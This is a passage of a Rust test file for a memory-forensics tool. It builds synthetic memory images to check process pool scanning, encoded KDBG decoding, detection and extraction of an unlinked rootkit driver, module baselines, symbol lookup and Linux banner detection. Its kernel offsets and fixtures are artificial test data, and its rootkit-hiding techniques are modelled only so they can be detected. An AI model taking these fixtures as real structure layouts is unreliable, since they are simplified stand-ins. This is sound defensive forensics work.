@@ -0,0 +1,2858 @@
+use std::path::PathBuf;
+use indicatif::ProgressBar;
+use sha2::Digest;
+use tempfile::tempdir;
+
+use crate::baseline::{Baseline, Drift, ModuleFingerprint};
+use crate::loader::load_memory_image;
+use crate::pe::{module_imports, module_name, rebuild_pe, Export, ExportIndex};
+use crate::plugin::{browser_name, find_service_descriptors, script_indicators, utf16_runs, ApiHookScanner, DotnetScanner, MalfindScanner, MemoryPlugin, PowerShellScanner, BrowserScanner, ArtifactKind, ServiceScanner, SsdtScanner};
+use crate::kdbg::{KdbgKeys, OsContext};
+use crate::modules::{extract_modules, find_kernel_modules, list_kernel_modules, ExtractOptions, KernelModule, ModuleFilter};
+use crate::osinfo::{detect_os, find_linux_banners, DetectedOs, LinuxBanner};
+use crate::symbols::{find_pdb_id, KernelTypes, PdbId, StructLayout, SymbolStore};
+use crate::procdiff::{LoadedModule, MemoryRegion, ProcessSnapshot};
+use crate::dumpdiff::HostSnapshot;
+use crate::psxview::{collect_views, cross_view};
+use crate::explain::{explain, ExplainContext};
+use crate::token::{token_anomalies, IntegrityLevel, Sid, TokenInfo};
+use crate::vad::{VadKind, VadProtection};
+use crate::dlllist::process_dlls;
+use crate::ioc::{report_iocs, scan_iocs, IocKind, IocMatcher, IocSet, PageOwner, PageOwners};
+use crate::dotnet::{clr_runtime, format_guid, list_assemblies, process_assemblies, AssemblySource, ClrHeader};
+use crate::procdump::{dump_process_memory, DumpMode};
+use crate::timeline::{collect_events, parse_prefetch, write_timeline, TimelineRecord};
+use crate::processes::{merge_remnants, process_tree, scan_status, Process, LinuxProcessFinder, ProcessFinder, ProcessState, ScanStatus, ThreadState, WindowsProcessFinder};
+
+// Lay out a pooled EPROCESS using the default Windows 10 x64 profile offsets
+pub(super) fn put_eprocess(data: &mut [u8], header: usize, pid: u64, name: &str, create: u64, exit: u64) {
+    // BlockSize 0x53 holds the headers and an EPROCESS of 0x4D0 bytes
+    data[header + 2] = 0x53;
+    data[header + 4..header + 8].copy_from_slice(b"Proc");
+    // Body after the object header and a 0x20-byte optional header
+    let body = header + 0x10 + 0x30 + 0x20;
+    data[body + 0x28..body + 0x30].copy_from_slice(&0x1AB000u64.to_le_bytes());
+    data[body + 0x180..body + 0x188].copy_from_slice(&pid.to_le_bytes());
+    data[body + 0x188..body + 0x190].copy_from_slice(&4u64.to_le_bytes());
+    data[body + 0x1A0..body + 0x1A8].copy_from_slice(&create.to_le_bytes());
+    data[body + 0x1A8..body + 0x1B0].copy_from_slice(&exit.to_le_bytes());
+    data[body + 0x1F8..body + 0x1FC].copy_from_slice(&3u32.to_le_bytes());
+    data[body + 0x2E0..body + 0x2E0 + name.len()].copy_from_slice(name.as_bytes());
+}
+
+#[test]
+fn test_pool_scan_recovers_exited_processes() -> Result<(), Box<dyn std::error::Error>> {
+    // 2024-01-01 as FILETIME
+    let created = 133_485_408_000_000_000u64;
+    let mut data = vec![0u8; 256 * 1024];
+    put_eprocess(&mut data, 0x10000, 0x1238, "dropper.exe", created, created + 600 * 10_000_000);
+    put_eprocess(&mut data, 0x20000, 0x2A0, "lsass.exe", created, 0);
+    // A stray tag whose body does not validate
+    data[0x30004..0x30008].copy_from_slice(b"Proc");
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("pool.bin");
+    std::fs::write(&path, &data)?;
+    let img = load_memory_image(&path)?;
+
+    let remnants = WindowsProcessFinder::new().scan_remnants(&img, &ProgressBar::hidden())?;
+    assert_eq!(remnants.len(), 2);
+
+    let dropper = remnants.iter().find(|p| p.name == "dropper.exe").unwrap();
+    assert_eq!(dropper.pid, 0x1238);
+    assert_eq!(dropper.state, ProcessState::Exited);
+    assert_eq!(dropper.exit_time.unwrap().duration_since(dropper.start_time)?.as_secs(), 600);
+    assert_eq!(dropper.virtual_address, 0x10060);
+
+    let lsass = remnants.iter().find(|p| p.name == "lsass.exe").unwrap();
+    assert_eq!(lsass.state, ProcessState::Running);
+
+    // Remnants already returned by the active walk are not duplicated
+    let mut processes = vec![lsass.clone()];
+    assert_eq!(merge_remnants(&mut processes, remnants), 1);
+
+    Ok(())
+}
+
+// Kernel image mapped at KERNEL_VA, backed by physical 0x5000 onwards
+const KERNEL_VA: u64 = 0xFFFF_F800_0000_0000;
+
+fn put(data: &mut [u8], offset: usize, value: u64) {
+    data[offset..offset + 8].copy_from_slice(&value.to_le_bytes());
+}
+
+// Write the plaintext KDBG header fields at `offset`
+fn put_kdbg(data: &mut [u8], offset: usize) {
+    data[offset + 0x10..offset + 0x14].copy_from_slice(b"KDBG");
+    data[offset + 0x14..offset + 0x18].copy_from_slice(&0x368u32.to_le_bytes());
+    put(data, offset + 0x18, KERNEL_VA);
+    put(data, offset + 0x48, KERNEL_VA + 0x1400);
+    put(data, offset + 0x50, KERNEL_VA + 0x1800);
+}
+
+// Map KERNEL_VA + n * 0x1000 to physical 0x5000 + n * 0x1000 under DTB 0x1000;
+// the first page is executable, the rest NX
+fn put_kernel_tables(data: &mut [u8]) {
+    put(data, 0x1000 + 0x1F0 * 8, 0x2000 | 1);
+    put(data, 0x2000, 0x3000 | 1);
+    put(data, 0x3000, 0x4000 | 1);
+    for i in 0..16 {
+        let nx = if i == 0 { 0 } else { 1 << 63 };
+        put(data, 0x4000 + i * 8, (0x5000 + i as u64 * 0x1000) | 1 | nx);
+    }
+}
+
+#[test]
+fn test_kdbg_plaintext_scan() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 256 * 1024];
+    // A tag without a plausible header is ignored
+    data[0x8010..0x8014].copy_from_slice(b"KDBG");
+    put_kdbg(&mut data, 0x1FFF0);
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("kdbg.bin");
+    std::fs::write(&path, &data)?;
+    let img = load_memory_image(&path)?;
+
+    let ctx = OsContext::find(&img, &ProgressBar::hidden()).expect("KDBG not found");
+    assert_eq!(ctx.kdbg_phys, Some(0x1FFF0), "Block straddling a chunk boundary");
+    assert_eq!(ctx.kernel_base, KERNEL_VA);
+    assert_eq!(ctx.ps_active_process_head, KERNEL_VA + 0x1800);
+    assert_eq!(ctx.ps_loaded_module_list, KERNEL_VA + 0x1400);
+    assert!(!ctx.encoded);
+
+    Ok(())
+}
+
+#[test]
+fn test_encoded_kdbg_drives_process_and_module_walks() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+
+    put_kernel_tables(&mut data);
+
+    // KdCopyDataBlock at KERNEL_VA + 0x100
+    let (wait_never, wait_always, flag, block) = (0x6000, 0x6008, 0x6020, 0x6100);
+    // Append an instruction with a RIP-relative operand; `disp_at` is its offset in the instruction
+    let rip_rel = |code: &mut Vec<u8>, insn: &[u8], disp_at: usize, target: usize| {
+        let next = kva(0x5100 + code.len() + insn.len());
+        code.extend_from_slice(insn);
+        let at = code.len() - insn.len() + disp_at;
+        code[at..at + 4].copy_from_slice(&((kva(target) - next) as i32).to_le_bytes());
+    };
+    let mut code = vec![0x48, 0x83, 0xEC, 0x28];
+    rip_rel(&mut code, &[0x80, 0x3D, 0, 0, 0, 0, 0x00], 2, flag);
+    code.extend_from_slice(&[0x4C, 0x8B, 0xC1, 0x74, 0x3E]);
+    rip_rel(&mut code, &[0x48, 0x8B, 0x0D, 0, 0, 0, 0], 3, wait_never);
+    rip_rel(&mut code, &[0x48, 0x8D, 0x15, 0, 0, 0, 0], 3, block);
+    rip_rel(&mut code, &[0x4C, 0x8B, 0x0D, 0, 0, 0, 0], 3, wait_always);
+    data[0x5100..0x5100 + code.len()].copy_from_slice(&code);
+
+    // Encode a KDBG block with the inverse of KdCopyDataBlock
+    let keys = KdbgKeys { wait_never: 0x1122_3344_5566_7713, wait_always: 0x0F0E_0D0C_0B0A_0908, encoded_flag_va: kva(flag) };
+    put(&mut data, wait_never, keys.wait_never);
+    put(&mut data, wait_always, keys.wait_always);
+    data[flag] = 1;
+    let mut plain = vec![0u8; 0x58];
+    put_kdbg(&mut plain, 0);
+    for (i, q) in plain.chunks_exact(8).enumerate() {
+        let d = u64::from_le_bytes(q.try_into().unwrap());
+        let x = (d ^ keys.wait_always).swap_bytes() ^ keys.encoded_flag_va;
+        put(&mut data, block + i * 8, x.rotate_right((keys.wait_never & 0xFF) as u32) ^ keys.wait_never);
+    }
+    assert_eq!(keys.decode(&data[block..block + 0x58]), plain);
+
+    // Two processes on PsActiveProcessHead (KERNEL_VA + 0x1800), links at EPROCESS + 0x190
+    let created = 133_485_408_000_000_000u64;
+    let (head, first, second) = (0x6800, 0x8000, 0xA000);
+    put_eprocess(&mut data, first - 0x60, 4, "System", created, 0);
+    put_eprocess(&mut data, second - 0x60, 0x2A0, "lsass.exe", created, 0);
+    put(&mut data, head, kva(first) + 0x190);
+    put(&mut data, first + 0x190, kva(second) + 0x190);
+    put(&mut data, second + 0x190, kva(head));
+
+    // One loader entry on PsLoadedModuleList (KERNEL_VA + 0x1400)
+    let (list, entry, name) = (0x6400, 0x6500, 0x6600);
+    put(&mut data, list, kva(entry));
+    put(&mut data, entry, kva(list));
+    put(&mut data, entry + 0x30, KERNEL_VA);
+    data[entry + 0x40..entry + 0x44].copy_from_slice(&0x2000u32.to_le_bytes());
+    let wide: Vec<u8> = "ntoskrnl.exe".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[name..name + wide.len()].copy_from_slice(&wide);
+    data[entry + 0x58..entry + 0x5A].copy_from_slice(&(wide.len() as u16).to_le_bytes());
+    put(&mut data, entry + 0x60, kva(name));
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("kdbg_encoded.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+
+    // The encoded block is invisible to a physical scan
+    assert!(OsContext::find(&img, &ProgressBar::hidden()).is_none());
+
+    img.set_cr3(0x1000);
+    let ctx = OsContext::find(&img, &ProgressBar::hidden()).expect("Encoded KDBG not found");
+    assert!(ctx.encoded);
+    assert_eq!(ctx.kdbg_va, Some(kva(block)));
+    assert_eq!(ctx.ps_active_process_head, kva(head));
+
+    let processes = WindowsProcessFinder::new().with_os_context(ctx.clone()).find_processes(&img, &ProgressBar::hidden())?;
+    let names: Vec<_> = processes.iter().map(|p| (p.pid, p.name.as_str())).collect();
+    assert_eq!(names, vec![(4, "System"), (0x2A0, "lsass.exe")]);
+
+    let modules = list_kernel_modules(&img, &ctx);
+    assert_eq!(modules.len(), 1);
+    assert_eq!((modules[0].base, modules[0].size, modules[0].name.as_str()), (KERNEL_VA, 0x2000, "ntoskrnl.exe"));
+
+    Ok(())
+}
+
+#[test]
+fn test_modscan_finds_unlinked_drivers_and_extracts_bodies() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x18000);
+
+    // Loader entries in MmLd allocations: BlockSize 0xB holds the header and a 0xA0-byte entry
+    let put_entry = |data: &mut [u8], header: usize, flink: u64, base: u64, size: u32, name: (usize, &str), path: Option<(usize, &str)>| {
+        data[header + 2] = 0xB;
+        data[header + 4..header + 8].copy_from_slice(b"MmLd");
+        let entry = header + 0x10;
+        put(data, entry, flink);
+        put(data, entry + 0x30, base);
+        data[entry + 0x40..entry + 0x44].copy_from_slice(&size.to_le_bytes());
+        for (field, string) in [(0x58, Some(name)), (0x48, path)] {
+            let Some((at, text)) = string else { continue };
+            let wide: Vec<u8> = text.encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+            data[at..at + wide.len()].copy_from_slice(&wide);
+            data[entry + field..entry + field + 2].copy_from_slice(&(wide.len() as u16).to_le_bytes());
+            put(data, entry + field + 8, kva(at));
+        }
+    };
+    // ntoskrnl.exe is on PsLoadedModuleList (KERNEL_VA + 0x1400)
+    put(&mut data, 0x6400, kva(0x6490));
+    put_entry(&mut data, 0x6480, kva(0x6400), KERNEL_VA, 0x2000, (0x6600, "ntoskrnl.exe"), None);
+    // rootkit.sys unlinked itself, its links pointing back at its own entry
+    put_entry(&mut data, 0x7000, kva(0x7010), KERNEL_VA + 0x3000, 0x1000,
+        (0x6700, "rootkit.sys"), Some((0x6780, "\\SystemRoot\\rootkit.sys")));
+    data[0x8000..0x9000].fill(0x90);
+    data[0x8000..0x8002].copy_from_slice(b"MZ");
+    // A tag on an allocation that holds no loader entry
+    data[0x7104..0x7108].copy_from_slice(b"MmLd");
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("modscan.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+    img.set_cr3(0x1000);
+    let ctx = OsContext::find(&img, &ProgressBar::hidden()).expect("KDBG not found");
+
+    let found = find_kernel_modules(&img, Some(&ctx), &ProgressBar::hidden());
+    let summary: Vec<_> = found.iter().map(|f| (f.module.name.as_str(), f.module.base, f.module.size, f.listed, f.pooled)).collect();
+    assert_eq!(summary, vec![
+        ("ntoskrnl.exe", KERNEL_VA, 0x2000, true, true),
+        ("rootkit.sys", KERNEL_VA + 0x3000, 0x1000, false, true),
+    ]);
+    assert!(!found[0].is_unlinked() && found[1].is_unlinked());
+    assert_eq!(found[1].module.path.as_deref(), Some("\\SystemRoot\\rootkit.sys"));
+
+    // Without KDBG every module comes from the pool scan alone
+    assert!(find_kernel_modules(&img, None, &ProgressBar::hidden()).iter().all(|f| !f.listed && f.pooled));
+
+    // Bodies are read from memory; the pattern is matched case-insensitively
+    let output = test_dir.path().join("modules");
+    let options = ExtractOptions { pattern: Some("ROOT*".to_string()), ..Default::default() };
+    extract_modules(path.clone(), output.clone(), Some(0x1000), options)?;
+    let mut files: Vec<_> = std::fs::read_dir(&output)?.map(|e| e.unwrap().file_name().into_string().unwrap()).collect();
+    files.sort();
+    assert_eq!(files, vec!["FFFFF80000003000_rootkit.sys", "manifest.json"]);
+    assert_eq!(std::fs::read(output.join(&files[0]))?, data[0x8000..0x9000]);
+    // The manifest records the hash of each body written
+    let manifest: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(output.join("manifest.json"))?)?;
+    assert_eq!(manifest[0]["name"], "rootkit.sys");
+    assert_eq!(manifest[0]["base"], "0xFFFFF80000003000");
+    let sha256: String = sha2::Sha256::digest(&data[0x8000..0x9000]).iter().map(|b| format!("{:02x}", b)).collect();
+    assert_eq!(manifest[0]["sha256"], sha256);
+    assert!(manifest[0]["imphash"].is_null());
+
+    // Extraction needs the kernel page tables
+    assert!(extract_modules(path, output, None, ExtractOptions::default()).is_err());
+
+    Ok(())
+}
+
+// A driver image mapped at `base`: one code section that loads a pointer to
+// its own data, and a version resource
+fn driver_image(base: u64, version: (u32, u32)) -> Vec<u8> {
+    let mut image = vec![0u8; 0x3000];
+    image[0..2].copy_from_slice(b"MZ");
+    image[0x3C..0x40].copy_from_slice(&0x80u32.to_le_bytes());
+    image[0x80..0x84].copy_from_slice(b"PE\0\0");
+    image[0x86..0x88].copy_from_slice(&2u16.to_le_bytes());
+    image[0x94..0x96].copy_from_slice(&0xF0u16.to_le_bytes());
+    let sections = 0x80 + 0x18 + 0xF0;
+    for (i, (rva, characteristics)) in [(0x1000u32, 0x6000_0020u32), (0x2000, 0xC000_0040)].into_iter().enumerate() {
+        let header = sections + i * 40;
+        image[header..header + 5].copy_from_slice(if i == 0 { b".text" } else { b".data" });
+        image[header + 8..header + 12].copy_from_slice(&0x1000u32.to_le_bytes());
+        image[header + 12..header + 16].copy_from_slice(&rva.to_le_bytes());
+        image[header + 36..header + 40].copy_from_slice(&characteristics.to_le_bytes());
+    }
+    // mov rax, [base + 0x2010]
+    image[0x1000..0x1002].copy_from_slice(&[0x48, 0xA1]);
+    image[0x1002..0x100A].copy_from_slice(&(base + 0x2010).to_le_bytes());
+    image[0x100A] = 0xC3;
+    image[0x2100..0x2104].copy_from_slice(&0xFEEF_04BDu32.to_le_bytes());
+    image[0x2108..0x210C].copy_from_slice(&version.0.to_le_bytes());
+    image[0x210C..0x2110].copy_from_slice(&version.1.to_le_bytes());
+    image
+}
+
+#[test]
+fn test_module_baseline_flags_modified_code() -> Result<(), Box<dyn std::error::Error>> {
+    let golden = ModuleFingerprint::of_image(&driver_image(0xFFFF_F800_0100_0000, (0x000A_0000, 0x4A61_0001)), 0xFFFF_F800_0100_0000);
+    assert_eq!(golden.version.as_deref(), Some("10.0.19041.1"));
+    let mut baseline = Baseline::default();
+    baseline.insert("Tcpip.SYS", golden.clone());
+
+    // The same driver loaded elsewhere matches; its writable data does not count
+    let base = 0xFFFF_F800_0730_0000;
+    let mut image = driver_image(base, (0x000A_0000, 0x4A61_0001));
+    image[0x2200] = 0x41;
+    assert_eq!(baseline.compare("tcpip.sys", &ModuleFingerprint::of_image(&image, base)), Drift::Match);
+
+    // Patched code with the same version is the suspicious case
+    image[0x100A] = 0xCC;
+    let patched = baseline.compare("tcpip.sys", &ModuleFingerprint::of_image(&image, base));
+    assert_eq!(patched, Drift::Modified);
+    assert!(patched.is_deviation());
+
+    let mut image = driver_image(base, (0x000A_0000, 0x4A61_0002));
+    image[0x1010] = 0x90;
+    assert_eq!(baseline.compare("tcpip.sys", &ModuleFingerprint::of_image(&image, base)),
+        Drift::VersionChanged { baseline: Some("10.0.19041.1".to_string()), found: Some("10.0.19041.2".to_string()) });
+
+    // Code that was paged out cannot be judged
+    let mut image = driver_image(base, (0x000A_0000, 0x4A61_0001));
+    image[0x1000..0x2000].fill(0);
+    let unverified = ModuleFingerprint::of_image(&image, base);
+    assert_eq!(unverified.code_sha256, None);
+    assert_eq!(baseline.compare("tcpip.sys", &unverified), Drift::Unverified);
+    assert_eq!(baseline.compare("evil.sys", &golden), Drift::NotInBaseline);
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("baseline.json");
+    baseline.save(&path)?;
+    assert_eq!(Baseline::load(&path)?, baseline);
+    std::fs::write(&path, "not json")?;
+    assert!(Baseline::load(&path).is_err());
+
+    Ok(())
+}
+
+#[test]
+fn test_kernel_pdb_identity_and_symbol_store() -> Result<(), Box<dyn std::error::Error>> {
+    let mut data = vec![0u8; 128 * 1024];
+    put_kernel_tables(&mut data);
+
+    // Minimal PE32+ header at KERNEL_VA with one CodeView debug entry
+    let pe = 0x5000;
+    data[pe..pe + 2].copy_from_slice(b"MZ");
+    data[pe + 0x3C..pe + 0x40].copy_from_slice(&0x80u32.to_le_bytes());
+    data[pe + 0x80..pe + 0x84].copy_from_slice(b"PE\0\0");
+    data[pe + 0x98..pe + 0x9A].copy_from_slice(&0x20Bu16.to_le_bytes());
+    let debug_dir = pe + 0x98 + 0x70 + 6 * 8;
+    data[debug_dir..debug_dir + 4].copy_from_slice(&0x1000u32.to_le_bytes());
+    data[debug_dir + 4..debug_dir + 8].copy_from_slice(&28u32.to_le_bytes());
+    let entry = pe + 0x1000;
+    data[entry + 12..entry + 16].copy_from_slice(&2u32.to_le_bytes());
+    data[entry + 16..entry + 20].copy_from_slice(&0x40u32.to_le_bytes());
+    data[entry + 20..entry + 24].copy_from_slice(&0x1100u32.to_le_bytes());
+    let mut record = b"RSDS".to_vec();
+    record.extend_from_slice(&[0xB9, 0xDB, 0x44, 0x38, 0x12, 0x34, 0x56, 0x78, 1, 2, 3, 4, 5, 6, 7, 8]);
+    record.extend_from_slice(&1u32.to_le_bytes());
+    record.extend_from_slice(b"d:\\build\\ntkrnlmp.pdb\0");
+    data[pe + 0x1100..pe + 0x1100 + record.len()].copy_from_slice(&record);
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("pdb_id.bin");
+    std::fs::write(&path, &data)?;
+    let mut img = load_memory_image(&path)?;
+    img.set_cr3(0x1000);
+
+    let id = find_pdb_id(&img, KERNEL_VA).expect("CodeView record not found");
+    assert_eq!(id, PdbId::from_codeview(&record).unwrap());
+    assert_eq!(id.name, "ntkrnlmp.pdb");
+    assert_eq!(id.signature(), "3844DBB93412785601020304050607081");
+    assert_eq!(id.store_path(), PathBuf::from("ntkrnlmp.pdb/3844DBB93412785601020304050607081/ntkrnlmp.pdb"));
+
+    // Offline stores only return what is already cached
+    let store = SymbolStore::new(test_dir.path().join("symbols")).offline(true);
+    assert!(store.locate(&id).is_err());
+    let cached = test_dir.path().join("symbols").join(id.store_path());
+    std::fs::create_dir_all(cached.parent().unwrap())?;
+    std::fs::write(&cached, b"pdb")?;
+    assert_eq!(store.locate(&id)?, cached);
+
+    Ok(())
+}
+
+#[test]
+fn test_kernel_types_override_profile_offsets() -> Result<(), Box<dyn std::error::Error>> {
+    let field = |name: &str, offset: u64| (name.to_string(), offset);
+    let mut types = KernelTypes::default();
+    types.structs.insert("_EPROCESS".to_string(), StructLayout {
+        size: 0x600,
+        fields: [
+            field("UniqueProcessId", 0x440),
+            field("InheritedFromUniqueProcessId", 0x540),
+            field("ImageFileName", 0x5A8),
+            field("CreateTime", 0x470),
+            field("ExitTime", 0x478),
+            field("ActiveThreads", 0x5F0),
+        ].into_iter().collect(),
+    });
+    types.structs.insert("_KPROCESS".to_string(), StructLayout {
+        size: 0x438,
+        fields: [field("DirectoryTableBase", 0x28)].into_iter().collect(),
+    });
+
+    let created = 133_485_408_000_000_000u64;
+    let mut data = vec![0u8; 64 * 1024];
+    let body = 0x2000;
+    put(&mut data, body + 0x28, 0x1AB000);
+    put(&mut data, body + 0x440, 0x1F4);
+    put(&mut data, body + 0x540, 0x2A0);
+    put(&mut data, body + 0x470, created);
+    data[body + 0x5A8..body + 0x5A8 + 11].copy_from_slice(b"notepad.exe");
+    data[body + 0x5F0..body + 0x5F4].copy_from_slice(&7u32.to_le_bytes());
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("types.bin");
+    std::fs::write(&path, &data)?;
+    let img = load_memory_image(&path)?;
+
+    assert!(WindowsProcessFinder::new().parse_eprocess(&img, body as u64).is_none());
+    let process = WindowsProcessFinder::new().with_kernel_types(&types)
+        .parse_eprocess(&img, body as u64)
+        .expect("EPROCESS with PDB offsets");
+    assert_eq!((process.pid, process.ppid, process.name.as_str(), process.thread_count), (0x1F4, 0x2A0, "notepad.exe", 7));
+
+    Ok(())
+}
+
+#[test]
+fn test_linux_banner_detection() -> Result<(), Box<dyn std::error::Error>> {
+    let ubuntu = "Linux version 5.15.0-91-generic (buildd@lcy02-amd64-045) (gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, \
+        GNU ld (GNU Binutils for Ubuntu) 2.38) #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 (Ubuntu 5.15.0-91.101-generic 5.15.131)";
+    let banner = LinuxBanner::parse(ubuntu).expect("banner");
+    assert_eq!(banner.release, "5.15.0-91-generic");
+    assert_eq!(banner.version, (5, 15, 0));
+    assert_eq!(banner.builder.as_deref(), Some("buildd@lcy02-amd64-045"));
+    assert_eq!(banner.compiler.as_deref(), Some("gcc (Ubuntu 11.4.0-1ubuntu1~22.04) 11.4.0, GNU ld (GNU Binutils for Ubuntu) 2.38"));
+    assert_eq!(banner.build.as_deref(), Some("#101-Ubuntu SMP"));
+    assert_eq!(banner.build_date.as_deref(), Some("Tue Nov 14 13:30:08 UTC 2023"));
+    assert_eq!(banner.profile_name(), "linux-5.15.0-91-generic.json");
+    assert!(LinuxBanner::parse("Linux version unknown").is_none());
+
+    // Two copies of one banner (kernel image and log buffer), one across a chunk boundary
+    let mut data = vec![0u8; 256 * 1024];
+    data[0x3000..0x3000 + ubuntu.len()].copy_from_slice(ubuntu.as_bytes());
+    data[0x1FFF0..0x1FFF0 + ubuntu.len()].copy_from_slice(ubuntu.as_bytes());
+    let nested = b"Linux version 4.19.0-25-amd64 (debian-kernel@lists.debian.org) (gcc version 8.3.0) #1 SMP Debian 4.19.289-2 (2023-08-08)\n";
+    data[0x30000..0x30000 + nested.len()].copy_from_slice(nested);
+
+    let test_dir = tempdir()?;
+    let path = test_dir.path().join("linux.bin");
+    std::fs::write(&path, &data)?;
+    let img = load_memory_image(&path)?;
+
+    let banners = find_linux_banners(&img, &ProgressBar::hidden());
+    let found: Vec<_> = banners.iter().map(|b| (b.offset, b.release.as_str())).collect();
+    assert_eq!(found, vec![(0x3000, "5.15.0-91-generic"), (0x30000, "4.19.0-25-amd64")]);
+    assert_eq!(banners[1].build.as_deref(), Some("#1 SMP Debian 4.19.289-2"));
+    assert_eq!(banners[1].build_date, None);
+
+    let DetectedOs::Linux(banner) = detect_os(&img, &ProgressBar::hidden()) else { panic!("Linux not detected") };
+    let finder = LinuxProcessFinder::default().with_banner(banner);
+    assert_eq!(finder.get_os_info(), ("Linux".to_string(), "5.15.0-91-generic".to_string()));
+
+    Ok(())
+}
+
+// Kernel capture with a plaintext KDBG and one process (PID 0x1F0) whose DTB at
+// 0x15000 maps an image at 0x400000 and its PEB at 0x402000; it runs with a
+// SYSTEM token at 0xC000. The later capture
+// adds a thread, a loader entry, a patched code page and code at 0x410000.
+fn put_process_capture(later: bool) -> Vec<u8> {
+    let mut data = vec![0u8; 128 * 1024];
+    let kva = |pa: usize| KERNEL_VA + (pa - 0x5000) as u64;
+    put_kernel_tables(&mut data);
+    put_kdbg(&mut data, 0x7000);
+
+    let (head, eprocess) = (0x6800, 0x8000);
+    put_eprocess(&mut data, eprocess - 0x60, 0x1F0, "victim.exe", 133_485_408_000_000_000, 0);
+    put(&mut data, eprocess + 0x28, 0x15000);
+    put(&mut data, eprocess + 0x338, 0x40_2000);
+    put(&mut data, head, kva(eprocess) + 0x190);
+    put(&mut data, eprocess + 0x190, kva(head));
+
+    // ThreadListHead at EPROCESS + 0x30, ThreadListEntry at ETHREAD + 0x4E8; the
+    // later thread starts in the injected page
+    let threads: &[(usize, u64, u64)] = if later {
+        &[(0x9000, 0x114, 0x40_1000), (0xA000, 0x9A8, 0x41_0000)]
+    } else {
+        &[(0x9000, 0x114, 0x40_1000)]
+    };
+    let mut link = eprocess + 0x30;
+    for &(ethread, tid, start) in threads {
+        put(&mut data, link, kva(ethread) + 0x4E8);
+        put(&mut data, ethread + 0x480, tid);
+        put(&mut data, ethread + 0x4D0, start);
+        // CreateTime: TID seconds after the process started
+        put(&mut data, ethread + 0x430, 133_485_408_000_000_000 + tid * 10_000_000);
+        data[ethread + 0x184] = if tid == 0x114 { 5 } else { 2 };
+        data[ethread + 0xC3] = 8;
+        link = ethread + 0x4E8;
+    }
+    put(&mut data, link, kva(eprocess) + 0x30);
+
+    // EPROCESS.Token fast reference -> _TOKEN with SeDebug and SeChangeNotify
+    // enabled, and UserAndGroups of SYSTEM, Administrators and the System label
+    let token = 0xC000;
+    put(&mut data, eprocess + 0x208, kva(token) | 3);
+    put(&mut data, token + 0x40, 1 << 20 | 1 << 23 | 1 << 17);
+    put(&mut data, token + 0x48, 1 << 20 | 1 << 23);
+    data[token + 0x7C..token + 0x80].copy_from_slice(&3u32.to_le_bytes());
+    put(&mut data, token + 0x98, kva(token + 0x200));
+    data[token + 0xD0..token + 0xD4].copy_from_slice(&2u32.to_le_bytes());
+    let sids: [&[u8]; 3] = [
+        &[1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0],
+        &[1, 2, 0, 0, 0, 0, 0, 5, 32, 0, 0, 0, 0x20, 2, 0, 0],
+        &[1, 1, 0, 0, 0, 0, 0, 16, 0, 0x40, 0, 0],
+    ];
+    for (index, sid) in sids.iter().enumerate() {
+        let at = token + 0x300 + index * 0x20;
+        data[at..at + sid.len()].copy_from_slice(sid);
+        put(&mut data, token + 0x200 + index * 16, kva(at));
+    }
+
+    // VAD tree at EPROCESS.VadRoot: the image view is the root, with the PEB
+    // page on its right and, later, the injected RWX page below that
+    let vads: &[(usize, u32, u32, u32)] = if later {
+        &[(0xE000, 0x400, 0x401, 2 << 4 | 7 << 7), (0xE080, 0x402, 0x402, 1 << 20 | 4 << 7), (0xE100, 0x410, 0x410, 1 << 20 | 6 << 7)]
+    } else {
+        &[(0xE000, 0x400, 0x401, 2 << 4 | 7 << 7), (0xE080, 0x402, 0x402, 1 << 20 | 4 << 7)]
+    };
+    put(&mut data, eprocess + 0x290, kva(0xE000));
+    for (index, &(vad, start, end, flags)) in vads.iter().enumerate() {
+        data[vad + 0x18..vad + 0x1C].copy_from_slice(&start.to_le_bytes());
+        data[vad + 0x1C..vad + 0x20].copy_from_slice(&end.to_le_bytes());
+        data[vad + 0x30..vad + 0x34].copy_from_slice(&flags.to_le_bytes());
+        if let Some(&(right, ..)) = vads.get(index + 1) {
+            put(&mut data, vad + 0x8, kva(right));
+        }
+    }
+    // Subsection -> ControlArea -> FilePointer -> FileName of the image view
+    let (subsection, control_area, file) = (0xE200, 0xE280, 0xE300);
+    put(&mut data, 0xE000 + 0x48, kva(subsection));
+    put(&mut data, subsection, kva(control_area));
+    put(&mut data, control_area + 0x40, kva(file) | 1);
+    let wide: Vec<u8> = "\\victim.exe".encode_utf16().flat_map(|c| c.to_le_bytes()).collect();
+    data[file + 0x58..file + 0x5A].copy_from_slice(&(wide.len() as u16).to_le_bytes());
+    put(&mut data, file + 0x60, kva(file + 0x100));
+    data[file + 0x100..file + 0x100 + wide.len()].copy_from_slice(&wide);
+
+    // Process page tables share the kernel PML4 entry
+    put(&mut data, 0x15000 + 0x1F0 * 8, 0x2000 | 1);
+    put(&mut data, 0x15000, 0x16000 | 7);
+    put(&mut data, 0x16000, 0x17000 | 7);
+    put(&mut data, 0x17000 + 2 * 8, 0x18000 | 7);
+    put(&mut data, 0x18000, 0x19000 | 7);
+    put(&mut data, 0x18008, 0x1A000 | 7);
+    put(&mut data, 0x18010, 0x1B000 | 7 | 1 << 63);
+    data[0x19000..0x19100].fill(0xCC);
+    data[0x1A000..0x1A100].fill(0x90);
+    if later {
+        data[0x1A010] = 0xC3;
